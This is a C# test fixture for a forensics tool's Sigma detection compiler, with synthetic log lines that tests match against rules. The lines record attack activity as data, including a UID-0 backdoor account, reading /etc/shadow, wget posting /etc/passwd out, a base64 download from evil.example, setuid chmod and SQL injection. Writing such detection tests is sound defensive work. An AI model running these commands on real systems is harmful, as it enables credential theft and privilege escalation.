using Forensics.Pipeline.Query;
using Forensics.Pipeline.Sigma;
using Forensics.Tests.Support;

namespace Forensics.Tests.Sigma;

/// <summary>
/// A small case ingested through the real pipeline: an auth log, an access log and an audit log whose lines each
/// carry a marker word (M01 …), so a test names the lines a rule must match. Shared by the Sigma tests.
/// </summary>
public sealed class SigmaCase : IDisposable
{
    public static readonly string[] AuthLog =
    [
        "May 21 03:54:46 droplet sshd[100]: Failed password for invalid user admin from 203.0.113.5 port 4242 ssh2 M01",
        "May 21 03:54:47 droplet sshd[100]: Failed password for root from 203.0.113.5 port 4243 ssh2 M02",
        "May 21 03:54:48 droplet sshd[101]: Accepted password for alice from 198.51.100.7 port 5000 ssh2 M03",
        "May 21 03:55:00 droplet sudo[200]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow M04",
        "May 21 03:55:01 droplet useradd[300]: new user: name=evil, UID=0, GID=0, home=/root, shell=/bin/bash M05",
        @"May 21 03:55:02 droplet app[400]: path C:\Windows\* and 100% done_ok M06",
        "May 21 03:55:03 droplet app[401]: payload d2dldCBodHRwOi8vZXZpbC5leGFtcGxlL3g= end M07",
        "May 21 03:55:04 droplet app[402]: Run -Enc and /Enc and \u2013Enc M08",
        "May 21 03:55:05 droplet app[403]: O'Brien said \"hi\"; DROP TABLE events; -- M09",
    ];

    public static readonly string[] AccessLog =
    [
        "203.0.113.9 - - [21/May/2024:03:56:00 +0000] \"GET /.git/config?M10 HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0 zgrab/0.x\"",
        "2001:db8::5 - - [21/May/2024:03:56:01 +0000] \"POST /mgmt/tm/util/bash?M11 HTTP/1.1\" 200 10 \"-\" \"curl/7.88\"",
        "10.1.2.3 - - [21/May/2024:03:56:02 +0000] \"GET /index.php?M12=1 HTTP/1.1\" 500 0 \"-\" \"sqlmap/1.7\"",
        "192.168.7.20 - - [21/May/2024:03:56:03 +0000] \"GET /shell.exe?M13 HTTP/1.1\" 200 99 \"-\" \"-\"",
    ];

    public static readonly string[] AuditLog =
    [
        "type=SYSCALL msg=audit(1716263760.100:500): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 a2=57 a3=0 items=2 ppid=1 pid=600 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"wget\" exe=\"/usr/bin/wget\" key=\"susp_activity\"",
        "type=EXECVE msg=audit(1716263760.100:500): argc=3 a0=\"wget\" a1=\"--post-file=/etc/passwd\" a2=\"M20\"",
        "type=PATH msg=audit(1716263760.100:500): item=0 name=\"/usr/bin/wget\" inode=1 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        "type=PATH msg=audit(1716263760.100:500): item=1 name=\"/etc/ld.so.preload\" inode=2 dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        "type=EOE msg=audit(1716263760.100:500): ",
        "type=SYSCALL msg=audit(1716263770.100:501): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 a2=57 a3=0 items=1 ppid=1 pid=601 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"chmod\" exe=\"/usr/bin/chmod\" key=(null)",
        "type=EXECVE msg=audit(1716263770.100:501): argc=4 a0=\"chmod\" a1=\"u+s\" a2=\"/tmp/x\" a3=\"M21\"",
        "type=EOE msg=audit(1716263770.100:501): ",
    ];

    private readonly TempDir _evidence = new();
    public CaseRun Run { get; }
    public SigmaFieldMap Map { get; } = SigmaFieldMap.Load(Path.Combine(RepoPaths.Queries, "sigma", SigmaFieldMap.FileName));

    public SigmaCase()
    {
        Directory.CreateDirectory(_evidence.Combine("var", "log", "audit"));
        File.WriteAllLines(_evidence.Combine("var", "log", "auth.log"), AuthLog);
        File.WriteAllLines(_evidence.Combine("var", "log", "access.log"), AccessLog);
        File.WriteAllLines(_evidence.Combine("var", "log", "audit", "audit.log"), AuditLog);
        Run = CaseRun.Ingest([_evidence.Path], tz: "UTC", year: 2024);
    }

    /// <summary>The markers (M01 …) of the events a rule matches, in order; the rule's YAML is logsource + detection.</summary>
    public List<string> Markers(string logsource, string detection)
    {
        var compiled = Compile(logsource, detection);
        using var session = CaseSession.Open(Run.CaseDir);
        SigmaCidr.Register(session.Connection);
        var r = session.Run($"SELECT regexp_extract(coalesce(audit_fields, '') || message, 'M[0-9][0-9]') FROM events WHERE {compiled.Where} ORDER BY 1", compiled.Parameters);
        return r.Rows.Select(x => (string)x[0]!).ToList();
    }

    public CompiledRule Compile(string logsource, string detection) =>
        new SigmaCompiler(Map).Compile(SigmaLoader.ParseText(Rule(logsource, detection)));

    public static string Rule(string logsource, string detection) =>
        "title: test\nlogsource:\n" + Indent(logsource) + "detection:\n" + Indent(detection);

    private static string Indent(string block) => string.Concat(block.Split('\n').Select(l => "    " + l + "\n"));

    public void Dispose()
    {
        Run.Dispose();
        _evidence.Dispose();
    }
}
